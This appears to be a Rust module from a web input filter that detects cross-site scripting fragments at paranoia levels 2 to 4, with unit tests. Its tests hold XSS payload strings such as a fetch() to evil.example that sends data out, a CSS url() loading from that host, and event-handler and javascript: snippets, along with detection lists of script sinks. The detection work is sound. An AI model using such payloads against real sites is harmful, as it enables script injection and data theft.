//! Cross-site scripting fragments for paranoia levels 2 to 4, rarer in real input the lower the
//! level: 2 = event attributes and script URLs anywhere, elements that carry active content or
//! forms, SVG/MathML with attributes, URL-loading attributes outside links and media (`<img
//! src>` is rich text), comment openers (`<!--`), string break-outs into an
//! assignment, ES module imports, calls of fetching or compiling functions; 3 = anything shaped
//! like a tag, any `on...=` attribute, any script scheme, `-->`; 4 = markup residue (`<`, `>`,
//! backticks, a quote closing into code).

use std::sync::LazyLock;

use aho_corasick::AhoCorasick;

use super::script::tagged_template;
use super::{data_html_at, is_event_name, literals, lower_at, scheme_at, starts_with_ci};

/// Script functions that print, fetch, post or compile, called right away (level 2; the
/// level-1 sinks are in the parent module).
static CALLS: LazyLock<AhoCorasick> = LazyLock::new(|| {
    literals(&[
        "print",
        "fetch",
        "function",
        "sendbeacon",
        "xmlhttprequest",
        "websocket",
        "eventsource",
        "postmessage",
        "importscripts",
    ])
});

/// Elements that run, load or submit something by themselves (level 2).
const ACTIVE_ELEMENTS: &[&str] = &[
    "script",
    "noscript",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "param",
    "base",
    "meta",
    "link",
    "style",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "keygen",
    "isindex",
    "xmp",
    "plaintext",
    "bgsound",
    "layer",
    "ilayer",
    "portal",
    "template",
    "dialog",
    "marquee",
];

/// SVG and MathML elements, which run script through their attributes (level 2 when they
/// carry any); rich text rarely holds them.
const ATTRIBUTED_ELEMENTS: &[&str] = &["svg", "math", "animate", "set", "use", "foreignobject"];

/// Media elements and links, whose `src` / `href` is what rich text is made of (`<img src>`,
/// `<a href>`): their URL attributes are left to level 3.
const MEDIA_ELEMENTS: &[&str] = &["a", "img", "picture", "source", "video", "audio", "track"];

/// Attributes that load a URL or a style (level 2, inside a tag).
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "style",
    "action",
    "formaction",
    "background",
    "poster",
    "dynsrc",
    "lowsrc",
    "data",
    "codebase",
];

/// The fragment rules at `level` (2 to 4; lower levels' rules included).
pub(super) fn at_level(b: &[u8], level: u8) -> bool {
    (level >= 2 && level2(b)) || (level >= 3 && level3(b)) || (level >= 4 && level4(b))
}

fn level2(b: &[u8]) -> bool {
    event_attribute(b, true)
        || script_url_anywhere(b, true)
        || (b.contains(&b'<') && tags(b).any(|t| active_tag(&t)))
        || comment_open(b)
        || string_breakout_assignment(b)
        || module_import(b)
        || script_call(b)
}

/// `print()`, `fetch('//x')`, `Function('...')`, ``document.write`...` ``: one of [`CALLS`]
/// called directly (a blank before the parenthesis is prose: `print (in colour)`; `print` with
/// an argument is Python's).
fn script_call(b: &[u8]) -> bool {
    // every call below is a name followed by `(` or `` ` ``: a value with neither has none, and
    // the automaton is not run (same verdicts)
    if memchr::memchr2(b'(', b'`', b).is_none() {
        return false;
    }
    CALLS.find_iter(b).any(|m| {
        let (s, e) = (m.start(), m.end());
        (s == 0 || !(b[s - 1].is_ascii_alphanumeric() || matches!(b[s - 1], b'_' | b'$')))
            && match b.get(e) {
                // `function(s)` in prose: the constructor wants its source as a string
                Some(b'(') if m.end() - m.start() == 8 => {
                    matches!(b.get(e + 1), Some(b'"' | b'\'' | b'`'))
                }
                // `window.print()` takes no argument; `print(i * i)` is Python
                Some(b'(') if b[s..e].eq_ignore_ascii_case(b"print") => {
                    b[e + 1..].trim_ascii_start().first() == Some(&b')')
                }
                Some(b'(') => true,
                Some(b'`') => tagged_template(b, e),
                _ => false,
            }
    })
}

fn level3(b: &[u8]) -> bool {
    (b.contains(&b'<') && (tags(b).next().is_some() || markup_declaration(b)))
        || finder!(b"-->").find(b).is_some()
        || event_attribute(b, false)
        || script_url_anywhere(b, false)
}

fn level4(b: &[u8]) -> bool {
    b.iter().any(|c| matches!(c, b'<' | b'>' | b'`'))
        || b.iter().enumerate().any(|(i, c)| {
            matches!(c, b'"' | b'\'')
                && b[i + 1..]
                    .trim_ascii_start()
                    .first()
                    .is_some_and(|n| matches!(n, b';' | b'+' | b'='))
        })
}

/// A tag: `<name` (or `</name`) and its attribute text up to `>`.
struct Tag<'a> {
    name: &'a [u8],
    /// Whether the name has a namespace prefix (`<SOAP-ENV:Body>`, `<svg:svg>`).
    prefixed: bool,
    attrs: &'a [u8],
}

/// An HTML element that runs or loads something: an active element, an SVG or MathML element
/// with attributes, or any element but links and media with an attribute that loads a URL
/// (`<a href>` and `<img src>` are what rich text is made of).
fn active_tag(t: &Tag<'_>) -> bool {
    if t.prefixed {
        return false;
    }
    let attributed = t.attrs.iter().any(|c| c.is_ascii_alphabetic());
    element_in(t.name, ACTIVE_ELEMENTS)
        || (attributed && element_in(t.name, ATTRIBUTED_ELEMENTS))
        || (attributed && !element_in(t.name, MEDIA_ELEMENTS) && url_attribute(t.attrs))
}

fn tags(b: &[u8]) -> impl Iterator<Item = Tag<'_>> {
    memchr::memchr_iter(b'<', b).filter_map(|p| {
        let mut j = p + 1;
        if b.get(j) == Some(&b'/') {
            j += 1;
        }
        let start = j;
        while j < b.len() && (b[j].is_ascii_alphanumeric() || matches!(b[j], b'-' | b':')) {
            j += 1;
        }
        if j == start || !b[start].is_ascii_alphabetic() || j - start > 32 {
            return None;
        }
        // `<a-b` and `<x1` are tag names to a browser; `<a.b`, `<b,` are not
        if b.get(j).is_some_and(|c| {
            !matches!(
                c,
                b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' | b'/' | b'>' | b'#' | 0
            )
        }) {
            return None;
        }
        let full = &b[start..j];
        let name = full
            .iter()
            .rposition(|&c| c == b':')
            .map_or(full, |c| &full[c + 1..]);
        let end = memchr::memchr(b'>', &b[j..]).map_or(b.len(), |e| j + e);
        Some(Tag {
            name,
            prefixed: name.len() < full.len(),
            attrs: &b[j..end.min(j + 4096)],
        })
    })
}

fn element_in(name: &[u8], list: &[&str]) -> bool {
    list.iter().any(|e| name.eq_ignore_ascii_case(e.as_bytes()))
}

/// `href=`, ` src =` among a tag's attributes; `style=` only when the tag's attributes load
/// or run something through CSS (`url(`, `expression(`, `@import`, `behavior`, `-moz-binding`,
/// a script URL, a CSS escape): editors write `style="text-align: center;"` on every paragraph.
fn url_attribute(attrs: &[u8]) -> bool {
    static CSS_LOADS: LazyLock<AhoCorasick> = LazyLock::new(|| {
        literals(&[
            "url(",
            "expression",
            "@import",
            "behavior",
            "binding",
            "script:",
            "\\",
            "&#",
            "image-set(",
        ])
    });
    (0..attrs.len()).any(|i| {
        (i == 0
            || matches!(
                attrs[i - 1],
                b' ' | b'\t' | b'\n' | b'\r' | b'\x0c' | b'/' | b'"' | b'\''
            ))
            && URL_ATTRIBUTES.iter().any(|a| {
                starts_with_ci(attrs, i, a.as_bytes())
                    && attrs[i + a.len()..].trim_ascii_start().first() == Some(&b'=')
                    && (*a != "style" || CSS_LOADS.is_match(&attrs[i..]))
            })
    })
}

/// `onload=`, `;onfocus =` anywhere: `on` after a non-word character, then an event name
/// (`known` = one of the common DOM events; otherwise any 3 to 25 letters), then `=`.
fn event_attribute(b: &[u8], known: bool) -> bool {
    let mut i = 0;
    while i + 4 < b.len() {
        if lower_at(b, i) == b'o'
            && lower_at(b, i + 1) == b'n'
            && (i == 0 || !(b[i - 1].is_ascii_alphabetic() || b[i - 1] == b'_'))
        {
            let mut j = i + 2;
            while j < b.len() && b[j].is_ascii_alphabetic() {
                j += 1;
            }
            let name = &b[i + 2..j];
            let named = if known {
                is_event_name(name)
            } else {
                (3..=25).contains(&name.len())
            };
            let rest = b[j..].trim_ascii_start();
            if named && rest.first() == Some(&b'=') && rest.get(1) != Some(&b'=') {
                return true;
            }
            i = j;
            continue;
        }
        i += 1;
    }
    false
}

/// `javascript:`, `vbscript:`, `data:text/html` anywhere in the value. `strict` (level 2)
/// wants code right after the scheme (`JavaScript: the basics` passes); level 3 takes any.
fn script_url_anywhere(b: &[u8], strict: bool) -> bool {
    // every scheme has a `:` (browsers strip blanks inside a scheme, not around the colon)
    if !b.contains(&b':') {
        return false;
    }
    (0..b.len()).any(|i| match lower_at(b, i) {
        b'd' => data_html_at(b, i),
        b'j' | b'v' | b'l' if i == 0 || !b[i - 1].is_ascii_alphanumeric() => scheme_at(b, i)
            .is_some_and(|after| !strict || b.get(after).is_some_and(|c| !c.is_ascii_whitespace())),
        _ => false,
    })
}

/// `<!--`, `<![CDATA[`: markers that open an HTML comment or a CDATA section, used to hide the
/// rest of a page. (The closing `-->` is also an arrow in prose: level 3.)
fn comment_open(b: &[u8]) -> bool {
    memchr::memchr_iter(b'<', b)
        .any(|i| starts_with_ci(b, i, b"<!--") || starts_with_ci(b, i, b"<![cdata["))
}

/// `<!DOCTYPE`, `<!ENTITY`, `<%=`: markup declarations and server template tags (`<?xml`
/// declarations are left to level 4: XML documents travel in parameters).
fn markup_declaration(b: &[u8]) -> bool {
    memchr::memchr_iter(b'<', b).any(|p| {
        matches!(b.get(p + 1), Some(b'!' | b'%'))
            && b.get(p + 2)
                .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'-' || *c == b'[')
    })
}

/// `'; x.y=`, `"in valueOf=`, `' in foo.bar =`: a quote that ends a string, then an
/// assignment to a property or after the `in` operator.
fn string_breakout_assignment(b: &[u8]) -> bool {
    b.iter().enumerate().any(|(q, c)| {
        if !matches!(c, b'"' | b'\'') {
            return false;
        }
        let rest = &b[q + 1..];
        let rest = rest
            .iter()
            .position(|c| !matches!(c, b' ' | b'\t' | b';' | b')' | b'\n' | b'\r'))
            .map_or(&rest[..0], |p| &rest[p..]);
        let after_in = rest.len() > 2 && rest[..2].eq_ignore_ascii_case(b"in");
        let mut j = 0;
        let mut dots = 0;
        while j < rest.len()
            && j < 64
            && (rest[j].is_ascii_alphanumeric() || matches!(rest[j], b'_' | b'$' | b'.' | b' '))
        {
            dots += usize::from(rest[j] == b'.');
            j += 1;
        }
        let ident = &rest[..j];
        // `a.b`, not `low..=high` or `etc.=`
        if finder!(b"..").find(ident).is_some() || ident.trim_ascii_end().ends_with(b".") {
            return false;
        }
        let assigned = rest.get(j) == Some(&b'=') && rest.get(j + 1) != Some(&b'=');
        let shaped = !ident.is_empty()
            && ident[0].is_ascii_alphabetic()
            && (dots > 0 && !ident.contains(&b' ')
                || after_in
                    && ident
                        .split(|c| *c == b' ')
                        .filter(|w| !w.is_empty())
                        .count()
                        <= 2);
        assigned && shaped
    })
}

/// `import { a, b } from "./x.js"`, `import * as x from '...'`, `import("./x.js")`: an ES
/// module import, which loads script.
fn module_import(b: &[u8]) -> bool {
    // an import is `import` then `(`, `{` or `*` (lowercasing keeps those bytes as they are): a
    // value with none of them has none, and is neither lowercased nor searched (same verdicts)
    if memchr::memchr3(b'(', b'{', b'*', b).is_none() {
        return false;
    }
    let lower = b.to_ascii_lowercase();
    finder!(b"import").find_iter(&lower).any(|p| {
        if p > 0 && (lower[p - 1].is_ascii_alphanumeric() || lower[p - 1] == b'_') {
            return false;
        }
        let rest = lower[p + 6..].trim_ascii_start();
        match rest.first() {
            Some(b'(') => rest[1..]
                .trim_ascii_start()
                .first()
                .is_some_and(|c| matches!(c, b'"' | b'\'' | b'`')),
            Some(b'{' | b'*') => {
                let close = finder!(b" from ").find(rest);
                close.is_some_and(|f| {
                    rest[f + 6..]
                        .trim_ascii_start()
                        .first()
                        .is_some_and(|c| matches!(c, b'"' | b'\''))
                })
            }
            _ => false,
        }
    })
}

#[cfg(test)]
mod tests {
    use super::at_level;

    fn level(v: &str) -> Option<u8> {
        (2..=4).find(|l| at_level(v.as_bytes(), *l))
    }

    #[test]
    fn level_2_fragments() {
        for a in [
            "x onload=go()",
            "foo;onfocus =bar",
            "see javascript:go",
            "open data:text/html,hi",
            "<noscript#",
            "<meta charset=\"UTF-8\">",
            "<td background=x>",
            "<input pattern=\"^a regex$\">",
            "<!-- hidden",
            "\"in valueOf=",
            "'  infoo.bar=",
            "'; document.title=",
            "import { sayHi, sayBye } from \"./greeting.js\";",
            "import('./x.js')",
            "\"-print()-\"",
            "fetch('//evil.example/?c='+x)",
            "navigator.sendBeacon(u,d)",
            "Function('alert(1)')()",
            "print( )",
            "<div style=\"background:url(//evil.example/x)\">",
            "<p style=\"width: expression(alert(1))\">",
        ] {
            assert_eq!(level(a), Some(2), "{a}");
        }
    }

    #[test]
    fn level_3_and_4_fragments() {
        for (v, l) in [
            ("<b>bold</b>", 3),
            ("-->", 3),
            ("<a href=\"test\"", 3),
            ("<svg></svg>", 3),
            ("<img src=\"test\"", 3),
            ("Hello <strong>world</strong>", 3),
            ("<!DOCTYPE html>", 3),
            ("x onwhatever=1", 3),
            ("JavaScript: the basics", 3),
            ("a < b", 4),
            ("5 > 3", 4),
            ("`cmd`", 4),
            ("x'; y", 4),
        ] {
            assert_eq!(level(v), Some(l), "{v}");
        }
    }

    /// Ordinary prose, emails, prices, JSON and URLs pass level 2 (most pass every level).
    #[test]
    fn prose_passes_level_2() {
        for b in [
            "If you're willing to import (and perhaps wait around) it sells out",
            "Turn on notifications; online=true",
            "JavaScript: Basics of JavaScript Language",
            "john.o'reilly+test@example.co.uk",
            "Price: $12.99 (was $15)",
            "{\"name\": \"Bob\", \"tags\": [\"a\", \"b\"]}",
            "https://example.com/path?x=1&y=2#frag",
            "A -> B -> C",
            "step 1 --> step 2",
            "compile your function(s) and start",
            "`low..=high` is also valid",
            "implements `io::Write` and `WebSocket`",
            "x--y",
            "I said \"in a minute\" = later",
            "We import goods from China",
            "print (in colour) and fetch (the paper)",
            "The onload event fires when a page loads",
            "Here's a video: <a href=\"https://www.youtube.com/watch?v=x\">",
            "<?xml version=\"1.0\"?><svg></svg>",
            "<p>Hello <strong>world</strong></p><a href=\"https://example.com\">link</a><img src=\"/img/cat.png\" alt=\"cat\">",
            "<SOAP-ENV:Envelope><SOAP-ENV:Body></SOAP-ENV:Body></SOAP-ENV:Envelope>",
            "<p style=\"text-align: center;\">Centered text</p>",
            "<p><span style=\"color: #e03e2d;\">Red warning text</span></p>",
            "for i in range(10): print(i * i)",
            "Python: print(f\"Total: {total:.2f}\")",
        ] {
            assert!(!at_level(b.as_bytes(), 2), "false positive: {b}");
        }
        for b in [
            "email@example.com",
            "Price: $12.99",
            "red",
            "Tom's recipe",
            "{\"name\":\"John Doe\",\"age\":\"30\"}",
            "(it's 'x')",
        ] {
            assert!(!at_level(b.as_bytes(), 4), "false positive at 4: {b}");
        }
    }
}
